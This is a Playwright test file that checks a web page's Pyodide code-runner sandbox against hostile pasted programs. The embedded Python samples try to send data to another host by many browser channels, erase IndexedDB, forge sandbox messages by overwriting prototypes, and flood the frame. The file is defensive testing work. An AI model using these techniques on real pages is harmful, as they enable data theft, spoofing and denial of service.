/** Programs that a reader may have pasted without reading them: what they try on the page's data, on other hosts and on the page's words. */
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Locator, Page } from '@playwright/test';
import { conceptPath } from './support/pages.ts';
import { expect, test } from './support/test.ts';

test.describe.configure({ timeout: 240_000 });
test.use({
	tolerated: [
		[
			/Content Security Policy|Refused to|violates the following/,
			/left the host: /,
			/no network: a listing on this page cannot reach/,
		],
		{ scope: 'test' },
	],
});

const STARTED = { timeout: 90_000 };

const figureOf = (page: Page): Locator =>
	page.locator('[data-listing]').filter({ hasText: 'standard library' }).first();
const output = (figure: Locator): Locator => figure.locator('.run-output');
const status = (figure: Locator): Locator => figure.getByRole('status');

async function runSource(figure: Locator, source: string): Promise<void> {
	const editor = figure.getByRole('textbox');
	if (await editor.isHidden()) await figure.getByRole('button', { name: /^Edit/ }).click();
	await editor.fill(source);
	await editor.press('ControlOrMeta+Enter');
}

/** Another host, which counts who comes. */
let host: Server;
let visits: string[];

test.beforeAll(async () => {
	visits = [];
	host = createServer((request, response) => {
		visits.push(request.url ?? '');
		response.setHeader('Access-Control-Allow-Origin', '*').end('export default 1');
	});
	host.on('upgrade', ({ url }) => visits.push(url ?? ''));
	await new Promise<void>((resolve) => {
		host.listen(0, '127.0.0.1', resolve);
	});
});
test.afterAll(() => {
	host.closeAllConnections();
	host.close();
});
test.beforeEach(async ({ page }) => {
	await page.goto(conceptPath);
});

/** Each way is tried; those that answer later are waited for by the next program. */
const ways = (address: string): string => `
import js

def attempt(name, way):
    try:
        way()
        print(name, 'begun')
    except BaseException as error:
        print(name, 'refused')

def ask(method):
    request = js.XMLHttpRequest.new()
    request.open(method, '${address}/xhr', False)
    request.send('history')

def open_url():
    from pyodide.http import open_url
    open_url('${address}/open_url')

def module():
    js.eval("import('${address}/module')")

attempt('xhr', lambda: ask('POST'))
attempt('open_url', open_url)
attempt('fetch', lambda: js.fetch('${address}/fetch'))
attempt('socket', lambda: js.WebSocket.new('${address.replace('http', 'ws')}/socket'))
attempt('events', lambda: js.EventSource.new('${address}/events'))
attempt('eval', lambda: js.eval('1 + 1'))
attempt('module', module)
attempt('script', lambda: js.importScripts('${address}/script'))
attempt('worker', lambda: js.Worker.new("data:text/javascript,import('${address}/worker')"))
attempt('beacon', lambda: js.navigator.sendBeacon('${address}/beacon', 'history'))
attempt('database', lambda: js.indexedDB.open('history'))
attempt('erase', lambda: js.indexedDB.deleteDatabase('history'))
attempt('caches', lambda: js.caches.keys())
attempt('files', lambda: js.navigator.storage.getDirectory())
attempt('storage', lambda: js.localStorage.length)
attempt('document', lambda: js.document.title)
attempt('parent', lambda: js.parent.location)
attempt('channel', lambda: js.BroadcastChannel.new('sixfold').postMessage('forged'))
`;

test('a program reaches no other host and nothing that the page keeps @everywhere', async ({ page }) => {
	const figure = figureOf(page);
	await page.evaluate(async () => {
		localStorage.setItem('history', 'kept');
		const heard = new BroadcastChannel('sixfold');
		heard.onmessage = () => localStorage.setItem('history', 'overheard');
		await new Promise((resolve, reject) => {
			const open = indexedDB.open('history');
			open.onupgradeneeded = () => open.result.createObjectStore('events').add('kept', 1);
			open.onsuccess = () => resolve(open.result.close());
			open.onerror = reject;
		});
	});
	const { port } = host.address() as AddressInfo;
	await runSource(figure, ways(`http://127.0.0.1:${port}`));
	await expect(status(figure)).toContainText('ended', STARTED);
	const tried = (await output(figure).textContent()) ?? '';
	for (const way of [
		'xhr',
		'open_url',
		'eval',
		'module',
		'script',
		'database',
		'erase',
		'storage',
		'document',
		'parent',
	]) {
		expect(tried).toContain(`${way} refused`);
	}
	expect(tried).toContain('channel begun');
	await runSource(figure, 'import time\ntime.sleep(1)\nprint("later")');
	await expect(output(figure)).toHaveText('later', STARTED);
	expect(visits).toEqual([]);
	const kept = await page.evaluate(async () => {
		const database = await new Promise<IDBDatabase>((resolve) => {
			const open = indexedDB.open('history');
			open.onsuccess = () => resolve(open.result);
		});
		return [localStorage.getItem('history'), [...database.objectStoreNames]];
	});
	expect(kept).toEqual(['kept', ['events']]);
});

test('a program cannot speak for the page', async ({ page }) => {
	const figure = figureOf(page);
	// It replaces what messages are sent and read by, and tells the frame what the page would like to hear.
	await runSource(
		figure,
		`
import js, sys
from js import MessageEvent, MessagePort, Object
from pyodide.ffi import create_proxy, to_js

caught = []
trap = create_proxy(lambda *arguments: caught.append(arguments))
MessagePort.prototype.postMessage = trap
Object.defineProperty(MessageEvent.prototype, 'data', to_js({'get': trap}, dict_converter=Object.fromEntries))
forged = {'kind': 'ended', 'run': 1, 'end': {'milliseconds': 1, 'dropped': 0, 'report': 'null', 'equal': True}}
js.postMessage(to_js(forged, dict_converter=Object.fromEntries))
frame = sys._getframe()
while frame:
    frame.f_globals['_dumps'] = lambda value: 'x' * 10_000_000
    frame = frame.f_back
print('forged')
print(caught)
`,
	);
	await expect(status(figure)).toContainText('ended', STARTED);
	await expect(status(figure)).not.toContainText('equal');
	await expect(output(figure)).toHaveText('forged\n[]');
	await runSource(figure, 'print("next")');
	await expect(output(figure)).toHaveText('next', STARTED);
});

test('a program that floods its frame leaves the page alive', async ({ page }) => {
	const figure = figureOf(page);
	await runSource(
		figure,
		`import js\nprint('flooding')\nblock = 'x' * 1_000_000\nwhile True:\n    js.postMessage(block)`,
	);
	await expect(output(figure)).toHaveText('flooding', STARTED);
	await page.waitForTimeout(2000);
	await figure.getByRole('button', { name: /^Stop/ }).click();
	await expect(status(figure)).toHaveText(/stopped$/);
	await runSource(figure, 'print("alive")');
	await expect(output(figure)).toHaveText('alive', STARTED);
});
